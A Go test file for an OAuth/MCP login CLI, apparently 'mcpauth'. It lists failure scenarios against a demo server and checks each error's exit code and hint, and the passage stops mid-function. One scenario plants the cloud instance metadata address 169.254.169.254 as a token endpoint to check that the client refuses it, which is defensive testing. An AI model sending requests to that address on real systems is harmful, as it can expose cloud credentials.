package main

import (
	"cmp"
	"context"
	"encoding/json"
	"errors"
	"go/ast"
	"go/parser"
	"go/token"
	"io"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"mcpauth/internal/demo"
	"mcpauth/internal/toolargs"
	"mcpauth/pkg/discovery"
	"mcpauth/pkg/flow"
	"mcpauth/pkg/mcpclient"
	oauth "mcpauth/pkg/token"
)

// mishap is an error of the table in exit.go, provoked with the demo server.
type mishap struct {
	name   string
	rows   string // the errors of the table that this mishap covers
	server demo.Options
	words  []string // settings of the demo server from the beginning
	before [][]string
	then   []string // settings of the demo server after the commands of before
	spoil  func(t *testing.T, u *unlucky)
	args   []string // the command that fails; SERVER, ISSUER and ELSEWHERE stand for addresses
	exit   int
	code   string
	hint   string // regular expression for the hint

	pick    int               // index of the command that the test runs, among the commands in the hint
	fill    map[string]string // values for the placeholders of the command that the test runs
	repair  func(t *testing.T, u *unlucky)
	next    string // error.code of the command that the test runs; empty: the command succeeds. Its hint must differ from the first hint
	goesOn  bool   // the failed command is repeated after the hint and succeeds
	unshown bool   // if true, docs/troubleshooting.md does not show this mishap, because another mishap has the same message
	nothing bool   // no command solves the problem: the server's operator must act, or the user must wait or edit a file
}

// mishaps returns the mishaps. The mishaps cover the rows of the table in exit.go that a server on loopback can provoke.
func mishaps() []mishap {
	login := func(flags ...string) []string { return append([]string{"login", "SERVER"}, flags...) }
	whoami := []string{"call", "SERVER", "whoami"}
	loggedIn := [][]string{{"login", "SERVER"}}
	enterprise := login("--name", "work", "--grant", "enterprise", "--client-id", "demo-public", "--idp-issuer", "PROVIDER", "--idp-client-id", "demo-public")
	return []mishap{
		// Errors in the command line or the configuration.
		{name: "a misspelled flag", rows: "usageError", args: login("--nmae", "x"), exit: 2, code: "usage", hint: `did you mean --name\?`, nothing: true},
		{name: "a grant without its options", rows: "flow.ErrOptions", args: login("--grant", "client_credentials"), exit: 2, code: "usage", hint: "login --help"},
		{name: "a variable that is not set", rows: "configError", args: login("--client-id", "x", "--client-secret-env", "NOWHERE"), exit: 2, code: "config", nothing: true},
		{name: "a configuration file with a syntax error", rows: "config.Error", args: []string{"call", "x", "whoami", "--config", "HOME/broken.json"}, exit: 2, code: "config", hint: "--config FILE", nothing: true,
			spoil: func(t *testing.T, u *unlucky) { u.file(t, "broken.json", "{") }},
		{name: "a variable of a configuration file that is not set", rows: "config.Error", args: []string{"call", "x", "whoami", "--config", "HOME/variable.json"}, exit: 2, code: "config", hint: "set the variable NOWHERE,", nothing: true,
			spoil: func(t *testing.T, u *unlucky) {
				u.file(t, "variable.json", `{"mcpServers":{"x":{"url":"${NOWHERE}"}}}`)
			}},
		{name: "an unknown server name", rows: "usageError", args: []string{"call", "nobody", "whoami"}, exit: 2, code: "usage", hint: "mcpauth login URL --name nobody",
			fill: map[string]string{"URL": "SERVER"}, goesOn: true},

		{name: "the name of a login that failed", rows: "usageError", args: []string{"call", "m", "whoami"}, exit: 2, code: "usage", hint: "^begin again: mcpauth login SERVER --name m$", goesOn: true,
			spoil: func(t *testing.T, u *unlucky) {
				u.set(t, []string{"token:invalid_grant,n=1"})
				u.run("login", u.URL(), "--name", "m")
			}},
		{name: "the name of a login that is not finished", rows: "usageError", before: [][]string{login("--name", "m", "--print-url")}, args: []string{"call", "m", "whoami"}, exit: 2, code: "usage",
			hint: "^finish it: mcpauth login SERVER --name m --callback-url URL; to begin again: mcpauth login SERVER --name m$", pick: 1, goesOn: true, unshown: true},
		{name: "the configuration has another URL for the name of a login", rows: "configError", before: [][]string{login("--name", "notes")}, args: []string{"login", "notes"}, exit: 2, code: "config",
			spoil: func(t *testing.T, u *unlucky) {
				u.file(t, "config.json", u.names.Replace(`{"mcpServers":{"notes":{"url":"ELSEWHERE"}}}`))
			}, hint: "mcpauth login ELSEWHERE --name OTHER$", fill: map[string]string{"OTHER": "other"}},

		// Discovery.
		{name: "the metadata does not announce PKCE", rows: "discovery.ErrPKCE", words: []string{"metadata:no-pkce"}, args: login("--name", "notes", "--scope", "notes:read notes:write", "--strict"),
			exit: 7, code: "security", hint: `mcpauth login SERVER --name notes --scope 'notes:read notes:write' --assume-pkce-s256$`},
		{name: "the metadata does not name the URL of --issuer", rows: "discovery.ErrNotNamed", args: login("--issuer", "https://other.example", "--name", "a"), exit: 7, code: "security",
			hint: "mcpauth login SERVER --name a --issuer URL$", fill: map[string]string{"URL": "ISSUER"}},
		{name: "the client was registered with another issuer", rows: "flow.ErrIssuerChanged", before: [][]string{login("--client-id", "demo-public")}, then: []string{"migrate"},
			args: login("--client-id", "demo-public"), exit: 7, code: "security", hint: "--accept-new-issuer$"},
		{name: "the metadata no longer names the pinned issuer", rows: "discovery.ErrNotNamed", before: [][]string{login("--client-id", "demo-public", "--issuer", "ISSUER")}, then: []string{"migrate"},
			args: login(), exit: 7, code: "security", hint: "mcpauth login SERVER --issuer URL$", fill: map[string]string{"URL": "NEW-ISSUER"}},
		{name: "the metadata no longer names the issuer in the configuration", rows: "discovery.ErrNotNamed", before: [][]string{login("--client-id", "demo-public", "--name", "work")}, then: []string{"migrate"},
			spoil: func(t *testing.T, u *unlucky) {
				u.file(t, "config.json", u.names.Replace(`{"mcpServers":{"work":{"url":"SERVER","auth":{"clientId":"demo-public","issuer":"ISSUER"}}}}`))
			}, args: []string{"login", "work"}, exit: 7, code: "security", hint: "mcpauth login work --issuer URL$", fill: map[string]string{"URL": "NEW-ISSUER"}, unshown: true},
		{name: "the metadata names no authorization server", rows: "discovery.ErrUnnamed", words: []string{"resource-metadata:set.authorization_servers="}, args: login("--scope", "notes:read"),
			exit: 5, code: "discovery", hint: "--scope notes:read --issuer URL$", fill: map[string]string{"URL": "ISSUER"}},
		{name: "the server requires no login", rows: "discovery.ErrOpen", server: demo.Options{Settings: demo.Settings{Open: []string{"*"}}}, words: []string{"discovery=default-endpoints"}, args: login("--name", "m"),
			exit: 5, code: "discovery", hint: "no login is needed: mcpauth tools SERVER lists the tools$"},
		{name: "the authorization server has no grant for users", rows: "discovery.ErrNonInteractiveOnly", words: []string{`metadata:del=authorization_endpoint,set.grant_types_supported=["client_credentials"]`}, args: login("--name", "m"),
			exit: 5, code: "discovery", hint: "--name m --grant client_credentials --client-id ID --client-secret-env VAR$", fill: map[string]string{"ID": "demo-post", "VAR": "POST_SECRET"}},
		{name: "the server redirects to another origin", rows: "discovery.ErrMoved", words: []string{"mcp:status=307,to=ELSEWHERE"}, args: login("--name", "m"), exit: 5, code: "discovery",
			hint: "mcpauth login ELSEWHERE --name m$"},
		{name: "the server redirects to a sibling path", rows: "discovery.ErrSibling", server: demo.Options{Paths: []string{"/mcp", "/mcp2"}}, words: []string{"mcp:path=/mcp,status=307,to=SERVER2"},
			args: login("--name", "m"), exit: 7, code: "security", hint: "mcpauth login SERVER2 --name m$"},
		{name: "a strict login at a server that deviates", rows: "discovery.Error", words: []string{"challenge=none"}, args: login("--strict", "--name", "m"), exit: 5, code: "discovery", hint: "mcpauth login SERVER --name m$"},
		{name: "a strict registration at a server that deviates", rows: "dcr.ErrDeviation", words: []string{"register:status=200"}, args: login("--strict"), exit: 5, code: "protocol", hint: "mcpauth login SERVER$"},
		{name: "the metadata names another issuer", rows: "discovery.ErrIssuer", words: []string{"metadata:foreign-issuer"}, args: login(), exit: 7, code: "security", hint: "only the server's operator", nothing: true},
		{name: "the metadata names another resource", rows: "discovery.ErrResource", words: []string{"resource-metadata:foreign-resource"}, args: login(), exit: 7, code: "security", hint: "only the server's operator", nothing: true},
		{name: "the metadata names a wider resource than that of the login", rows: "flow.ErrWiderResource", before: [][]string{login("--name", "m")}, then: []string{"resource_id=ORIGIN/"},
			args: []string{"call", "m", "whoami"}, exit: 7, code: "security", hint: "if you trust every server that gets tokens for this resource: mcpauth login m$", goesOn: true},
		{name: "the metadata names a forbidden URL", rows: "httpx.AddressError", words: []string{"metadata:set.token_endpoint=http://169.254.169.254/"}, args: login(), exit: 7, code: "security",
			hint: "only the server's operator", nothing: true},
		{name: "the metadata cannot be read", rows: "discovery.Error", words: []string{"metadata:status=503"}, args: login(), exit: 5, code: "discovery", hint: "mcpauth discover SERVER", next: "discovery"},
		{name: "discover finds no client to use", rows: "unworkableError", words: []string{"metadata:no-registration"}, args: []string{"discover", "SERVER", "--scope", "notes:read"}, exit: 5, code: "discovery",
			hint: "mcpauth login SERVER --scope notes:read --client-id ID", fill: map[string]string{"ID": "demo-public"}},

		// The client.
		{name: "no client is available", rows: "dcr.ErrNoClient", words: []string{"metadata:no-registration"}, args: login("--name", "m"), exit: 4, code: "auth_failed", hint: "--name m --client-id ID",
			fill: map[string]string{"ID": "demo-public"}},
		{name: "the server registers only listed clients", rows: "dcr.Error", words: []string{"register:forbidden"}, args: login(), exit: 4, code: "auth_failed", hint: "--client-id ID.*--client-name NAME",
			fill: map[string]string{"ID": "demo-public"}},
		{name: "the registration is refused", rows: "dcr.Error", words: []string{`register:status=400,type=application/json,body="{\"error\":\"invalid_client_metadata\"}"`}, args: login(),
			exit: 4, code: "auth_failed", hint: "--client-id ID", fill: map[string]string{"ID": "demo-public"}},
		{name: "the registration endpoint fails", rows: "dcr.Error", words: []string{"register:status=500"}, args: login(), exit: 5, code: "server", hint: "try again later", nothing: true},
		{name: "the client is rejected", rows: "flow.ErrClientRejected", words: []string{"token:has=client_id=demo-public,invalid_client"}, args: login("--client-id", "demo-public", "--name", "m"),
			exit: 4, code: "auth_failed", hint: "only the server's operator.*mcpauth login SERVER --name m --new-client$"},

		// The browser.
		{name: "nobody finishes the login in the browser", rows: "flow.ErrNoAnswer", args: login("--name", "m", "--timeout", "3s"), exit: 4, code: "auth_failed",
			spoil: func(t *testing.T, u *unlucky) { u.env["BROWSER"] = "none" }, repair: func(t *testing.T, u *unlucky) { u.env["BROWSER"] = "browser" },
			hint: "--name m --timeout 10m; .*--name m --new-client; .*--name m --auth-param prompt=$"},
		{name: "the browser waits for an administrator", rows: "flow.ErrNoAnswer", args: login("--timeout", "3s"), exit: 4, code: "auth_failed",
			spoil: func(t *testing.T, u *unlucky) { u.env["BROWSER"] = "none" }, repair: func(t *testing.T, u *unlucky) { u.env["BROWSER"] = "browser" }, pick: 2, unshown: true},
		{name: "not logged in, and no browser", rows: "flow.ErrLoginRequired callback.ErrNoBrowser", args: whoami, exit: 4, code: "login_required",
			spoil: func(t *testing.T, u *unlucky) { u.env["BROWSER"] = "none" }, repair: func(t *testing.T, u *unlucky) { u.env["BROWSER"] = "browser" },
			hint: "mcpauth login SERVER$", goesOn: true},
		{name: "the user denies the access", rows: "callback.AuthorizationError", words: []string{"authorize:access-denied,n=1"}, args: login("--name", "m"), exit: 4, code: "access_denied", hint: "mcpauth login SERVER --name m$"},
		{name: "the authorization server fails in the browser", rows: "callback.AuthorizationError", words: []string{"authorize:set.error=server_error,del=code"}, args: login(), exit: 5, code: "server", hint: "try again later", nothing: true},
		{name: "the scope is unknown", rows: "callback.AuthorizationError", args: login("--scope", "bogus", "--name", "m"), exit: 4, code: "auth_failed", pick: 1,
			hint: "mcpauth discover SERVER lists.*mcpauth login SERVER --name m --scope SCOPE$", fill: map[string]string{"SCOPE": "notes:read"}},
		{name: "the authorization response names another issuer", rows: "callback.ErrIssuer", words: []string{"authorize:wrong-iss"}, args: login(), exit: 7, code: "security", hint: "only the server's operator", nothing: true},
		{name: "the pasted URL belongs to no pending login", rows: "flow.ErrNoPending callback.ErrState", args: login("--callback-url", "http://127.0.0.1:1/callback?code=c&state=s"), exit: 4, code: "login_required",
			hint: "mcpauth login SERVER --print-url$"},
		{name: "the pasted URL belongs to no pending login of the name", rows: "flow.ErrNoPending", before: [][]string{login("--name", "m", "--print-url")},
			args: []string{"login", "m", "--callback-url", "http://127.0.0.1:1/callback?code=c&state=s"}, exit: 4, code: "login_required", hint: "mcpauth login SERVER --name m --print-url$", unshown: true},
		{name: "the second command of a login names another setting", rows: "flow.ErrOtherSettings", spoil: beginLogin, args: login("--strict", "--callback-url", "http://127.0.0.1:43117/callback?code=c&state=STATE"),
			exit: 2, code: "usage", hint: "mcpauth login SERVER --strict --print-url$"},
		{name: "only the code is pasted", rows: "callback.ErrBareCode", args: login("--callback-url", "abc"), exit: 2, code: "usage", nothing: true},
		{name: "the callback port is in use", rows: "callback.ErrPortInUse", args: login("--callback-port", "PORT", "--name", "m"), exit: 4, code: "auth_failed", hint: "mcpauth login SERVER --name m$"},

		{name: "the endpoint's URL has another value of a stored parameter", rows: "flow.ErrAuthParam", before: [][]string{login("--name", "m", "--auth-param", "audience=old")},
			then: []string{"metadata:set.authorization_endpoint=ISSUER/authorize?audience=api"}, args: []string{"login", "m"}, exit: 7, code: "security",
			hint: "mcpauth login m --auth-param NAME=VALUE$", fill: map[string]string{"NAME=VALUE": "audience=api"}, goesOn: true},

		// The token endpoint.
		{name: "the assertion names a token endpoint on another origin", rows: "token.UnnamedIssuerError", words: []string{"metadata:set.token_endpoint=ELSEWHERE-ORIGIN/token"},
			spoil: func(t *testing.T, u *unlucky) { u.file(t, "assertion", u.elsewhere.AssertionForEndpoint()) },
			args:  login("--grant", "jwt_bearer", "--client-id", "demo-public", "--assertion-file", "HOME/assertion", "--resource", "ELSEWHERE"), exit: 7, code: "security", hint: "--resource ELSEWHERE --issuer URL$", fill: map[string]string{"URL": "ISSUER"}, goesOn: true},
		{name: "the resource parameter is refused", rows: "token.Error callback.AuthorizationError", words: []string{"resource=refuse"}, args: login("--name", "m"), exit: 4, code: "auth_failed", hint: "--name m --no-resource"},
		{name: "the authorization code is refused", rows: "token.Error", words: []string{"token:refused-code"}, args: login(), exit: 4, code: "auth_failed", hint: "only the server's operator", nothing: true},
		{name: "the authorization code has expired", rows: "token.Error", words: []string{"token:invalid_grant,n=1"}, args: login("--name", "m"), exit: 4, code: "invalid_grant", hint: "mcpauth login SERVER --name m$"},
		{name: "the refresh token has been revoked", rows: "flow.ErrGrantRejected", before: loggedIn, then: []string{"revoke"}, args: []string{"refresh", "SERVER"}, exit: 4, code: "invalid_grant", hint: "mcpauth login SERVER$", goesOn: true},
		{name: "the refresh token is refused with another code", rows: "token.Error", before: loggedIn, then: []string{"token:grant=refresh_token,refused-code"}, args: []string{"refresh", "SERVER"}, exit: 4,
			hint: "mcpauth login SERVER$"},
		{name: "the identity provider has revoked its refresh token", rows: "flow.ErrIdentityProvider", before: [][]string{enterprise}, then: []string{"@PROVIDER revoke"}, args: []string{"refresh", "work"},
			exit: 4, code: "invalid_grant", hint: "mcpauth login work$", goesOn: true},
		{name: "the identity provider does not let the client exchange tokens", rows: "flow.ErrIdentityProvider",
			words: []string{`@PROVIDER token:grant=urn:ietf:params:oauth:grant-type:token-exchange,status=400,type=application/json,body={"error":"access_denied"}`}, args: enterprise,
			exit: 4, code: "auth_failed", hint: "only the administrator of the identity provider", nothing: true},
		{name: "the ID token was issued to another client", rows: "token.ErrIDToken", words: []string{`@PROVIDER id_claims={"aud":"other"}`}, args: enterprise,
			exit: 7, code: "security", hint: "only the administrator of the identity provider", nothing: true},
		{name: "there is no identity provider at --idp-issuer", rows: "flow.ErrIdentityProvider", words: []string{"@PROVIDER asm=none"}, args: enterprise,
			exit: 5, code: "discovery", hint: "check the address of --idp-issuer", nothing: true},
		{name: "the resource parameter is refused at a refresh", rows: "flow.ErrGrantRejected", before: [][]string{login("--name", "m")},
			then: []string{`token:grant=refresh_token,status=400,type=application/json,body="{\"error\":\"invalid_request\",\"error_description\":\"the parameter resource is not supported\"}"`},
			args: []string{"refresh", "m"}, exit: 4, code: "invalid_grant", hint: "mcpauth login m --no-resource", repair: func(t *testing.T, u *unlucky) { u.set(t, []string{"clear", "resource=optional"}) }},
		{name: "the token endpoint fails", rows: "token.Error", before: loggedIn, then: []string{"token:grant=refresh_token,status=503"}, args: []string{"refresh", "SERVER"}, exit: 5, code: "server",
			hint: "try again later", nothing: true},
		{name: "there is no refresh token", rows: "flow.ErrNoRefreshToken", words: []string{"offline=never"}, before: loggedIn, args: []string{"refresh", "SERVER"}, exit: 4, code: "login_required", hint: "mcpauth login SERVER$"},
		{name: "the token endpoint sends an HTML page", rows: "token.ErrMalformed", words: []string{"token:html"}, args: login(), exit: 5, code: "protocol", hint: "only the server's operator", nothing: true},
		{name: "the token is not bound to the key", rows: "token.ErrDowngrade", words: []string{"dpop=offer", "token:set.token_type=Bearer"}, args: login("--dpop", "always", "--name", "m"), exit: 7, code: "security",
			hint: "--name m --dpop never$"},
		{name: "the login is for another account", rows: "flow.ErrAccount", words: []string{"token:set.id_token=eyJhbGciOiJub25lIn0.eyJlbWFpbCI6ImFubkBleGFtcGxlLmNvbSJ9.eA", "token:set.id_token=eyJhbGciOiJub25lIn0.eyJlbWFpbCI6ImV2ZUBleGFtcGxlLmNvbSJ9.eA,n=1"}, // the first ID token is for eve@example.com, the next one is for ann@example.com
			args: login("--expect-account", "ann@example.com"), exit: 7, code: "security", hint: "mcpauth login SERVER --expect-account ann@example.com$"},
		{name: "the token is bound to a key", rows: "flow.ErrBoundToken", words: []string{"dpop=offer"}, before: [][]string{login("--dpop", "always")}, args: []string{"token", "SERVER"}, exit: 4, code: "auth_failed",
			hint: "mcpauth call SERVER and mcpauth proxy SERVER .*mcpauth login SERVER --dpop never$", pick: 2, goesOn: true},
		{name: "the device grant is not offered", rows: "flow.ErrUnsupported", words: []string{"metadata:del=device_authorization_endpoint"}, args: login("--grant", "device_code"), exit: 4, code: "auth_failed",
			hint: "only the server's operator.*mcpauth discover SERVER", nothing: true},

		// Calls.
		{name: "the tool needs another scope", rows: "flow.ScopeError", before: [][]string{login("--name", "m")}, args: []string{"call", "m", "secret_note", "text=x", "--reauth", "never"}, exit: 4, code: "insufficient_scope",
			hint: "mcpauth login m --scope 'notes:read.*notes:write.*'$", goesOn: true},
		{name: "the account is not allowed to call the tool", rows: "flow.ErrForbidden mcpclient.StatusError", before: loggedIn, then: []string{"mcp:method=tools/call,status=403"}, args: whoami, exit: 4, code: "access_denied",
			hint: "--name OTHER$", fill: map[string]string{"OTHER": "other"}},
		{name: "the server rejects every token", rows: "flow.ErrTokenRefused", before: loggedIn, then: []string{"mcp:wrong-audience"}, args: whoami, exit: 4, code: "auth_failed", hint: "only the server's operator", nothing: true},
		{name: "the tool does not exist", rows: "mcpclient.ArgumentError", before: loggedIn, args: []string{"call", "SERVER", "zzzzz"}, exit: 3, code: "rpc_error", hint: "mcpauth tools SERVER lists the tools"},
		{name: "the argument does not exist", rows: "mcpclient.ArgumentError", before: loggedIn, args: []string{"call", "SERVER", "echo", "zzzzzzz=1"}, exit: 3, code: "rpc_error", hint: "mcpauth tools SERVER echo lists its arguments"},
		{name: "the token in MCPAUTH_ACCESS_TOKEN is refused", rows: "mcpclient.StatusError", spoil: func(t *testing.T, u *unlucky) { u.env[accessTokenVariable] = "stale" }, args: whoami, exit: 4, code: "login_required",
			hint: "set a new one$", nothing: true},
		{name: "the MCP server fails", rows: "mcpclient.StatusError", before: loggedIn, then: []string{"mcp:status=503"}, args: whoami, exit: 5, code: "server", hint: "^the tool may have run, .*try again later", nothing: true},
		{name: "the MCP server redirects a call to another origin", rows: "mcpclient.StatusError", before: loggedIn, then: []string{"mcp:status=307,to=ELSEWHERE"}, args: whoami, exit: 5, code: "protocol", hint: "if you trust this address: mcpauth login ELSEWHERE"},
		{name: "the MCP server redirects a call below its URL", rows: "mcpclient.StatusError", before: loggedIn, then: []string{"mcp:status=307,to=SERVER/"}, args: whoami, exit: 5, code: "protocol", hint: "log in again, because a login stores the new address: mcpauth login SERVER$"},
		{name: "the MCP server answers with an unexpected status", rows: "mcpclient.StatusError", before: loggedIn, then: []string{"mcp:status=418"}, args: whoami, exit: 5, code: "protocol", hint: "mcpauth discover SERVER"},
		{name: "the time limit ends", rows: "context.DeadlineExceeded", before: loggedIn, then: []string{"mcp:delay=9s,n=1"}, args: append(whoami, "--timeout", "3s"), exit: 5, code: "timeout", hint: "^the tool may have run, .*add --timeout 5m$"},
		{name: "a task takes longer than the time limit", rows: "mcpclient.PendingError", before: loggedIn, args: []string{"call", "SERVER", "report", "pages=20", "delay_ms=250", "--timeout", "4s"}, exit: 5, code: "timeout",
			then: []string{"mcp:method=tasks/get,hang=before"}, // so that the limit always ends a request, not a pause between two requests
			hint: "wait for the result: mcpauth task SERVER demo-task", repair: func(t *testing.T, u *unlucky) { u.set(t, []string{"clear"}) }},
		{name: "the resource does not exist", rows: "mcpclient.UnknownError", before: loggedIn, args: []string{"read", "SERVER", "demo://notes/9"}, exit: 3, code: "rpc_error", hint: "mcpauth resources SERVER"},
		{name: "the prompt lacks an argument", rows: "mcpclient.UnknownError", before: loggedIn, args: []string{"prompt", "SERVER", "review", "tone=dry"}, exit: 3, code: "rpc_error",
			hint: "mcpauth prompts SERVER review lists its arguments"},
		{name: "the task does not exist", rows: "mcpclient.TaskError", before: loggedIn, args: []string{"task", "SERVER", "gone"}, exit: 3, code: "rpc_error", hint: "list the tasks: mcpauth task SERVER"},
		{name: "--output raw is used for several content blocks", rows: "protocolError", before: loggedIn, args: []string{"call", "SERVER", "gallery", "--output", "raw"}, exit: 5, hint: "^the tool has run, .*add --output json"},
		{name: "no program listens at the address", rows: "unreachable", before: loggedIn, spoil: func(t *testing.T, u *unlucky) { shutDown(t, u.Server) }, args: whoami, exit: 5, code: "network", hint: "mcpauth discover SERVER", next: "network"},
		{name: "the certificate authority is unknown", rows: "tls.CertificateVerificationError", server: demo.Options{TLS: true}, args: []string{"discover", "SERVER"}, exit: 5, code: "network", hint: "add --cacert FILE$",
			fill: map[string]string{"FILE": "HOME/ca.pem"}, repair: func(t *testing.T, u *unlucky) { u.file(t, "ca.pem", string(u.CertificatePEM())) }},
		{name: "the server requires a client certificate", rows: "certificateWanted", server: demo.Options{MutualTLS: true},
			args: login("--grant", "client_credentials", "--client-id", "demo-post", "--client-secret-env", "POST_SECRET", "--cacert", "HOME/ca.pem"), exit: 5, code: "network",
			hint: "if the server requires a client certificate: mcpauth login SERVER .*--cacert HOME/ca.pem --cert FILE --key FILE$", fill: map[string]string{"FILE": "HOME/own.pem"},
			spoil: func(t *testing.T, u *unlucky) { u.file(t, "ca.pem", string(u.CertificatePEM())) }, repair: func(t *testing.T, u *unlucky) {
				own, err := u.ClientCertificate("robot", time.Hour)
				if err != nil {
					t.Fatal(err)
				}
				u.file(t, "own.pem", string(own))
			}},
		{name: "the client certificate cannot be used", rows: "flow.ErrCertificate", args: login("--cert", "HOME/half.pem"), exit: 2, code: "config", hint: "--cert FILE --key FILE$", nothing: true,
			spoil: func(t *testing.T, u *unlucky) {
				u.file(t, "half.pem", "-----BEGIN CERTIFICATE-----\nAA==\n-----END CERTIFICATE-----\n")
			}},

		{name: "the tool reports an error", rows: "toolError", before: loggedIn, args: []string{"call", "SERVER", "fail"}, exit: 3, code: "tool_error", nothing: true},
		{name: "the server refuses the call", rows: "mcpclient.RPCError", before: loggedIn, then: []string{`mcp:method=tools/call,status=400,type=application/json,body="{\"jsonrpc\":\"2.0\",\"id\":null,\"error\":{\"code\":-32602,\"message\":\"quota exceeded\"}}"`},
			args: whoami, exit: 3, code: "rpc_error", nothing: true},
		{name: "too many requests", rows: "mcpclient.StatusError", before: loggedIn, then: []string{"mcp:method=tools/call,busy"}, args: whoami, exit: 5, code: "server", hint: "try again in 1s; .*--idempotent", nothing: true},
		{name: "stdout cannot be written", rows: "outputError", before: loggedIn, spoil: func(t *testing.T, u *unlucky) { u.full = true }, args: whoami, exit: 1, code: "output", hint: "^the tool may have run, .*can be written", nothing: true},
		{name: "Ctrl-C", rows: "interrupted", before: loggedIn, spoil: func(t *testing.T, u *unlucky) { u.interrupted = true }, args: whoami, exit: 130, code: "interrupted", nothing: true},

		// The store.
		{name: "there is no keychain", rows: "keystore.ErrUnavailable", args: login("--keystore", "keychain", "--name", "m"), exit: 6, code: "keystore", hint: "mcpauth login SERVER --name m --keystore file$"},
		{name: "the stored record is damaged", rows: "keystore.ErrCorrupt", before: loggedIn, args: []string{"refresh", "SERVER"}, exit: 6, code: "keystore", hint: "delete this file, and repeat the command: .*\\.credential$", nothing: true,
			spoil: func(t *testing.T, u *unlucky) {
				records, err := filepath.Glob(filepath.Join(u.env["HOME"], ".local", "share", "mcpauth", "*.credential"))
				if err != nil || len(records) != 1 {
					t.Fatalf("records %q, %v", records, err)
				}
				if err := os.WriteFile(records[0], []byte("{"), 0o600); err != nil {
					t.Fatal(err)
				}
			}},
	}
}

// Errors of the table that no mishap provokes, and the tests that do.
var metElsewhere = map[string]string{
	"config.ErrUnknown":        "a usageError takes its place",
	"mcpclient.LineError":      "call_batch.txtar; nothing to type",
	"mcpclient.QuestionError":  "hostile_test.go; the row of httpx.AddressError",
	"token.ErrAudience":        "login_grants.txtar; only another assertion helps",
	"keystore.ErrLocked":       "secretservice stories; the hint is a command of the system",
	"keystore.ErrForeignBus":   "hostile_bus_linux_test.go; needs another user",
	"keystore.ErrDenied":       "needs a keychain that refuses; the same hint as ErrUnavailable",
	"keystore.ErrTimeout":      "needs a keychain that hangs; the same hint as ErrUnavailable",
	"keystore.ErrElsewhere":    "needs a keychain",
	"keystore.ErrBusy":         "processes_test.go; waiting helps",
	"keystore.ErrNewer":        "storetrouble_test.go; only a newer program helps",
	"keystore.ErrUnwritable":   "storetrouble_test.go; names the variables",
	"keystore.ErrInsecure":     "storetrouble_test.go; names the variables",
	"keystore.ErrMode":         "storetrouble_test.go; the hint is a command of the system",
	"keystore.ErrNotFound":     "the row of flow.ErrLoginRequired",
	"token.ErrSecretRepeated":  "hostile_test.go; the hint of a public text: TestTypedValuesAreNoSecrets in pkg/flow",
	"flow.ErrManyScopes":       "hostile_test.go; only a person knows the scopes",
	"flow.ErrLongScopes":       "TestOwnScopes; only a person knows the scopes",
	"flow.ErrMoved":            "the tests of pkg/flow; another process must log in during the command",
	"flow.ErrAssertionExpired": "the tests of pkg/flow; only another assertion helps",
	"keystore.ErrReadOnly":     "the tests of the postgres store",
	"keystore.ErrNoTable":      "the tests of the postgres store",
	"keystore.ErrFull":         "the tests of the postgres store",
	"keystore.ErrTooOld":       "the tests of the postgres store",
	"keystore.ErrKeyFile":      "storetrouble_test.go; names the variable",
	"keystore.ErrParameter":    "the tests of the postgres store",
	"keystore.ErrSearchPath":   "the tests of the postgres store",
	"keystore.ErrPooled":       "the tests of the postgres store",
	"keystore.Error":           "the same hint as ErrUnavailable",
	"flow.ErrCredential":       "the row of keystore.ErrCorrupt",
	"flow.ErrMaybeSpent":       "kill_test.go; the row of flow.ErrGrantRejected",
	"callback.ErrMalformed":    "the row of token.ErrMalformed",
	"httpx.ProxyError":         "call_bad_input.txtar; the user must correct the variable",
	"httpx.ErrTooLarge":        "the row of token.ErrMalformed",
	"fs.PathError":             "login_machine.txtar; the message names the file",
	"flow.StageError":          "what no other row knows",
}

// For every error in the table of exit.go, a mishap causes it or metElsewhere lists it.
func TestEveryRowIsMet(t *testing.T) {
	met := map[string]bool{}
	for _, m := range mishaps() {
		for _, row := range strings.Fields(m.rows) {
			met[row] = true
		}
	}
	f, err := parser.ParseFile(token.NewFileSet(), "exit.go", nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	var rows []string
	for _, d := range f.Decls {
		if fn, ok := d.(*ast.FuncDecl); ok && fn.Name.Name == "errorTable" {
			ast.Inspect(fn, func(n ast.Node) bool {
				switch n := n.(type) {
				case *ast.SelectorExpr:
					if name := n.X.(*ast.Ident).Name + "." + n.Sel.Name; strings.Contains(n.Sel.Name, "Err") {
						rows = append(rows, name)
					}
				case *ast.StarExpr:
					if id, ok := n.X.(*ast.Ident); ok {
						rows = append(rows, id.Name)
					}
				}
				return true
			})
		}
	}
	if len(rows) < 50 {
		t.Fatalf("only %d errors found: the test looks in the wrong place", len(rows))
	}
	for _, row := range rows {
		if !met[row] && metElsewhere[row] == "" {
			t.Errorf("no mishap provokes %s", row)
		}
	}
}

// TestHintsWork runs the command of each hint. The command must succeed, or fail with an error and a hint that differ from those of the
// first command. The messages of the run are the content of docs/troubleshooting.md.
func TestHintsWork(t *testing.T) {
	t.Parallel()
	// t.Setenv refuses parallel tests. No other test of this package uses the session bus; scripts/secretservice runs its tests alone.
	os.Setenv("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent/bus")
	all := mishaps()
	if runtime.GOOS != "linux" { // other systems than Linux always have a keychain
		all = slices.DeleteFunc(all, func(m mishap) bool { return m.name == "there is no keychain" })
	}
	seen := make([]failure, len(all))
	t.Run("mishaps", func(t *testing.T) {
		for i, m := range all {
			t.Run(m.name, func(t *testing.T) {
				t.Parallel()
				seen[i] = m.play(t)
			})
		}
	})
	if !t.Failed() && runtime.GOOS == "linux" {
		comparePage(t, troubleshootingPage, troubleshooting(all, seen))
	}
}

// unlucky is the user of a test in which a mishap happens. The user has no stored login.
type unlucky struct {
	*stranger
	names       *strings.Replacer // replaces the placeholders in commands
	plain       *strings.Replacer // replaces the addresses in messages by placeholders
	provider    *demo.Server      // an identity provider
	elsewhere   *demo.Server      // another server
	full        bool              // stdout cannot be written
	interrupted bool
}

func (m mishap) play(t *testing.T) failure {
	u := newUnlucky(t, m.server)
	u.set(t, m.words)
	for _, args := range m.before {
		if code := u.run(u.fill(args)...); code != exitDone {
			t.Fatalf("%q: exit %d\n%s", args, code, u.stderr.String())
		}
	}
	u.set(t, m.then)
	if m.spoil != nil {
		m.spoil(t, u)
	}
	args := u.fill(m.args)
	named := []string{"--config", filepath.Join(u.env["HOME"], "config.json")} // a global flag, which each command of a hint must repeat
	repeated := " --config " + shellWord(named[1])
	if slices.Contains(args, "--config") {
		named = nil
	}
	first := u.fails(t, slices.Concat(args, named))
